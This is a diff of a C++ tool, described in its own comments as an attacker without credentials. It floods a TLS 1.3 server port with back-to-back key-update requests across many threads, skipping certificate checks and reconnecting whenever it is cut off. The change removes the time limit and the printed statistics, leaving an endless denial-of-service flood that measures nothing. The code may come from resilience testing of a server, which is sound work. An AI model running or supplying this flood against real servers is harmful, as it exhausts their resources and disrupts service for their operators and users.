@@ -1,8 +1,7 @@
 // An attacker without credentials: TLS 1.3 connections on which key updates come as fast as they can be made,
 // each asking for one in return and with no data in between. Tries again when it is cut off. The answers are
-// never read.
-//   key-update-flood PORT CONNECTIONS SECONDS
-// Prints "connections N updates N cut N": begun, sent, and ended by the server.
+// never read. Goes on until it is killed.
+//   key-update-flood PORT CONNECTIONS
 #include <openssl/err.h>
 #include <openssl/ssl.h>
 
@@ -21,12 +20,6 @@
 
 namespace {
 
-using clock_type = std::chrono::steady_clock;
-
-struct sums {
-  long connections = 0, updates = 0, cut = 0;
-};
-
 int connected(int port) {
   const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
   sockaddr_in at{};
@@ -43,25 +36,23 @@ bool cut_off(int fd) {
   return ::poll(&asked, 1, 0) > 0;
 }
 
-void flood(SSL_CTX* context, int port, clock_type::time_point until, sums& out) {
-  while (clock_type::now() < until) {
+[[noreturn]] void flood(SSL_CTX* context, int port) {
+  for (;;) {
     const int fd = connected(port);
     if (fd < 0) {
       std::this_thread::sleep_for(std::chrono::milliseconds(20));
       continue;
     }
-    const timeval patience{1, 0};  // a server that stopped reading is no reason to stay beyond the end
+    const timeval patience{1, 0};  // a server that stopped reading may have closed
     ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
     ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
-    const std::unique_ptr<SSL, decltype(&SSL_free)> ssl(SSL_new(context), &SSL_free);
-    SSL_set_fd(ssl.get(), fd);
-    if (SSL_connect(ssl.get()) == 1) {
-      ++out.connections;
+    {
+      const std::unique_ptr<SSL, decltype(&SSL_free)> ssl(SSL_new(context), &SSL_free);
+      SSL_set_fd(ssl.get(), fd);
+      bool goes_on = SSL_connect(ssl.get()) == 1;
       // SSL_do_handshake sends the update at once; a request or any other data never comes.
-      while (clock_type::now() < until && !cut_off(fd) &&
-             SSL_key_update(ssl.get(), SSL_KEY_UPDATE_REQUESTED) == 1 && SSL_do_handshake(ssl.get()) == 1)
-        ++out.updates;
-      if (clock_type::now() < until) ++out.cut;
+      while (goes_on && !cut_off(fd))
+        goes_on = SSL_key_update(ssl.get(), SSL_KEY_UPDATE_REQUESTED) == 1 && SSL_do_handshake(ssl.get()) == 1;
     }
     ERR_clear_error();
     ::close(fd);
@@ -71,26 +62,18 @@ void flood(SSL_CTX* context, int port, clock_type::time_point until, sums& out) 
 }  // namespace
 
 int main(int argc, char** argv) {
-  if (argc != 4) {
-    std::fprintf(stderr, "usage: key-update-flood PORT CONNECTIONS SECONDS\n");
+  if (argc != 3) {
+    std::fprintf(stderr, "usage: key-update-flood PORT CONNECTIONS\n");
     return 2;
   }
   ::signal(SIGPIPE, SIG_IGN);
   const int port = std::atoi(argv[1]);
-  const auto until = clock_type::now() + std::chrono::seconds(std::atoi(argv[3]));
   const std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)> context(SSL_CTX_new(TLS_client_method()),
                                                                   &SSL_CTX_free);
   SSL_CTX_set_min_proto_version(context.get(), TLS1_3_VERSION);
   SSL_CTX_set_verify(context.get(), SSL_VERIFY_NONE, nullptr);
-  std::vector<sums> each(static_cast<std::size_t>(std::atoi(argv[2])));
   std::vector<std::thread> attackers;
-  for (sums& out : each) attackers.emplace_back([&] { flood(context.get(), port, until, out); });
+  for (int i = 0; i < std::atoi(argv[2]); ++i)
+    attackers.emplace_back([ssl = context.get(), port] { flood(ssl, port); });
   for (std::thread& one : attackers) one.join();
-  sums all;
-  for (const sums& one : each) {
-    all.connections += one.connections;
-    all.updates += one.updates;
-    all.cut += one.cut;
-  }
-  std::printf("connections %ld updates %ld cut %ld\n", all.connections, all.updates, all.cut);
 }
